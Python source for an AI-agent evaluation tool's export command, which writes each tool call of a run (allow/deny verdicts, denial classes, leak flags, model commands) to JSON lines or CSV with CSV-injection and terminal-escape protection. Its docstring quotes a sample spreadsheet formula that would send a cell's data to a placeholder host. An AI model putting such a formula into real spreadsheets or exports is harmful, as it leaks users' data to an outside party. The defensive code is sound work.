"""``agent-eval export``: one row per tool call of a run, as JSON lines or CSV.

A CSV opened in a spreadsheet runs any cell that starts like a formula: a model's
command ``=HYPERLINK("http://x/?"&A1)`` or ``@SUM(...)`` becomes one ("CSV injection").
So, as OWASP recommends (https://owasp.org/www-community/attacks/CSV_Injection; ASVS
5.0 requirement 1.2.10 adds NUL), every text cell starting with ``=``, ``+``, ``-``,
``@``, TAB, CR or NUL gets a leading single quote, and every cell is wrapped in double
quotes (inner ones doubled).  ``--raw`` writes the stored text as is, for tools that
are not spreadsheets; JSON lines are always raw.
"""

from __future__ import annotations

import csv
import json
import sys
from pathlib import Path

import click

from agent_eval.cli import main
from agent_eval.cli.options import db_option, run_argument

COLUMNS = (
    "run", "session", "session_key", "target", "scenario", "repeat", "session_status",
    "turn", "call", "tool", "verdict", "class", "class_name", "next_action", "script",
    "command", "source_verdict", "leak", "agent",
)
"""The export's columns, in order (documented in README, ``agent-eval export``)."""
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
"""First characters that make a spreadsheet read a CSV cell as a formula (OWASP)."""


def export_rows(store, run_id: int):
    """One dict per tool call of ``run_id`` (keys: :data:`COLUMNS`), streamed."""
    from agent_eval.policy import get_rule

    sessions = {s.id: s for s in store.session_rows([run_id])}
    names: dict[str, str] = {}
    for c in store.call_rows([run_id]):
        s = sessions.get(c.session_id)
        if c.primary and c.primary not in names:
            rule = get_rule(c.primary)
            names[c.primary] = rule.name if rule else ""
        yield {
            "run": c.run_id, "session": c.session_id, "session_key": s.key if s else "",
            "target": c.target, "scenario": c.scenario, "repeat": s.repeat if s else None,
            "session_status": s.status if s else None, "turn": c.turn_index, "call": c.index,
            "tool": c.tool, "verdict": c.decision, "class": c.primary,
            "class_name": names.get(c.primary) if c.primary else None,
            "next_action": c.next_action, "script": c.script, "command": c.command,
            "source_verdict": c.source_decision, "leak": c.leak,
            "agent": s.policy_agent if s else None,
        }


@main.command()
@run_argument()
@click.option("--format", "fmt", type=click.Choice(["jsonl", "csv"]), default="jsonl",
              show_default=True, help="JSON lines (one object a call) or CSV with a header.")
@click.option("--output", "-o", type=click.Path(path_type=Path), default=None,
              help="Write to FILE [default: stdout].")
@click.option("--raw", is_flag=True,
              help="CSV: write each cell exactly as stored, without the quote that stops a "
                   "spreadsheet running it as a formula (for tools that are not spreadsheets).")
@db_option
def export(run_ref: str, fmt: str, output: Path | None, raw: bool, db: str | None) -> None:
    """Export every tool call of a run, one row each, for pandas, duckdb or a spreadsheet.

    Example:

    \b
        agent-eval export latest --format csv -o calls.csv
        agent-eval export 12 | duckdb -c "select class, count(*) from read_json_auto('/dev/stdin') group by 1"

    Columns: run, session, session_key, target, scenario, repeat, session_status, turn,
    call, tool, verdict (allow/deny), class (the primary AE code of a denied call),
    class_name, next_action (after a denial: pivot, retry-denied, repeat, abandon),
    script, command (as the model wrote it, unescaped), source_verdict (imports: what the
    source harness decided).

    CSV is safe to open in a spreadsheet: a text cell starting with =, +, -, @, TAB, CR
    or NUL (a formula to Excel, LibreOffice or Google Sheets) gets a leading ' (so
    `-rf` reads `'-rf`) and every cell is quoted, as OWASP's CSV Injection page
    recommends; --raw writes the stored text unchanged, and --format jsonl is always
    raw.  Written to a terminal, control characters are shown escaped (\x1b), never
    obeyed.  Exit codes: 0 written, 2 unknown run or bad --db.
    """
    from agent_eval.store import open_store

    with open_store(db, create=False) as store:
        run = store.resolve_run(run_ref)
        stream = output.open("w", encoding="utf-8", newline="") if output else sys.stdout
        if stream.isatty():  # a model's text must not drive the terminal it is shown on
            stream = _EscapedStream(stream)
        try:
            _write(stream, fmt, export_rows(store, run.id), raw=raw)
        finally:
            if output:
                stream.close()
    if output:
        click.echo(f"wrote {output}", err=True)


def _write(stream, fmt: str, rows, *, raw: bool = False) -> None:
    if fmt == "csv":
        writer = csv.DictWriter(stream, fieldnames=COLUMNS,
                                quoting=csv.QUOTE_MINIMAL if raw else csv.QUOTE_ALL)
        writer.writeheader()
        cell = _as_is if raw else neutralise
        for row in rows:
            writer.writerow({k: "" if v is None else cell(v) for k, v in row.items()})
    else:
        for row in rows:
            stream.write(json.dumps(row, ensure_ascii=False) + "\n")


def neutralise(value):
    """A CSV cell a spreadsheet reads as text: a string starting with one of
    :data:`FORMULA_STARTS` gets a leading single quote (OWASP); numbers are left alone.

    >>> neutralise("=1+1"), neutralise("-rf"), neutralise("uv run x.py"), neutralise(3)
    ("'=1+1", "'-rf", 'uv run x.py', 3)
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _as_is(value):
    return value


class _EscapedStream:
    """stdout when it is a terminal: each write's control characters shown escaped."""

    def __init__(self, stream) -> None:
        self.stream = stream

    def write(self, text: str) -> int:
        from agent_eval.cli.terminal import escape_terminal

        # CSV rows end in CRLF: kept, as a terminal shows it as a line end
        return self.stream.write("\r\n".join(escape_terminal(t) for t in text.split("\r\n")))

    def close(self) -> None:
        self.stream.close()
